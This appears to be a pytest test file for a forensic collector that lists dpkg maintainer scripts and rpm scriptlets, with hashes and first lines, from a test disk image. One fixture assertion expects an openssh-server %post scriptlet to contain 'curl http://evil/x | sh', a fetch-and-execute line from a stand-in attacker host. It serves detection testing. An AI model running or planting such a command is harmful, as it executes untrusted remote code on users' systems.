"""The maintainer-scripts view: dpkg scripts and rpm scriptlets, with their first lines."""

from __future__ import annotations

import hashlib
import os

import pytest

from collectors.osquery import maintainer_scripts, run_osquery
from tests.osquery_image import build_image, build_rpmdb


@pytest.fixture
def image(tmp_path):
    root = tmp_path / "image"
    root.mkdir()
    build_image(root)
    build_rpmdb(root)
    return root


def test_lists_dpkg_scripts_and_rpm_scriptlets(image):
    result = maintainer_scripts(root=image, head_lines=2)
    assert result.column_names[:7] == ["package", "kind", "path", "size", "mtime", "sha256", "head"]
    rows = {(r["package"], r["kind"]): r for r in result.rows_as_dicts()}
    evil = rows[("evil", "postinst")]
    data = (image / "var/lib/dpkg/info/evil.postinst").read_bytes()
    assert evil["path"] == "/var/lib/dpkg/info/evil.postinst"
    assert evil["size"] == len(data)
    assert evil["sha256"] == hashlib.sha256(data).hexdigest()
    assert evil["head"] == "#!/bin/sh\necho evil.postinst"        # two lines, not three
    assert evil["mtime"].endswith("Z") and evil["mtime"][:4].isdigit()
    assert ("fresh", "preinst") in rows and ("link", "postinst") in rows
    assert ("evil", "list") not in rows and ("old", "md5sums") not in rows
    assert ("dangling", "prerm") not in rows          # a link to nothing has no script to read
    post = rows[("openssh-server", "%post")]
    assert post["manager"] == "rpm"
    assert post["path"] == "/var/lib/rpm/rpmdb.sqlite:openssh-server-8.7p1-10.el9.x86_64:%post"
    assert post["head"] == "/usr/bin/systemctl preset sshd.service\ncurl http://evil/x | sh"
    assert post["mtime"] == "2023-11-14T22:13:20.000Z"
    triggers = [r for r in result.rows_as_dicts() if r["package"] == "bash"]
    assert [r["kind"] for r in triggers] == ["%trigger", "%trigger"]
    assert [r["head"] for r in triggers] == ["echo trigger one", "echo trigger two"]
    assert triggers[0]["path"].endswith(":%trigger:1")


def test_head_is_bounded_and_binary_is_named(image):
    info = image / "var/lib/dpkg/info"
    (info / "big.postinst").write_text("x" * 100_000 + "\n")
    (info / "blob.preinst").write_bytes(b"\x7fELF\x00\x01" * 10)
    rows = {r["package"]: r for r in maintainer_scripts(root=image).rows_as_dicts()}
    assert len(rows["big"]["head"]) == 8192
    assert rows["blob"]["head"] == "(binary, 60 bytes)"


def test_sql_view_filters_by_package(image):
    result = run_osquery("SELECT kind FROM huntbench_maintainer_scripts WHERE package = 'evil'",
                         backend="builtin", root=image)
    assert result.values == [["postinst"]]


def test_unreadable_info_directory_is_counted(image, monkeypatch):
    real = os.scandir
    target = str(image / "var/lib/dpkg/info")

    def scandir(path="."):
        if os.fspath(path) == target:
            raise PermissionError(13, "Permission denied", path)
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    result = maintainer_scripts(root=image)
    assert {r["manager"] for r in result.rows_as_dicts()} == {"rpm"}
    assert any("1 unreadable path skipped" in w for w in result.warnings)
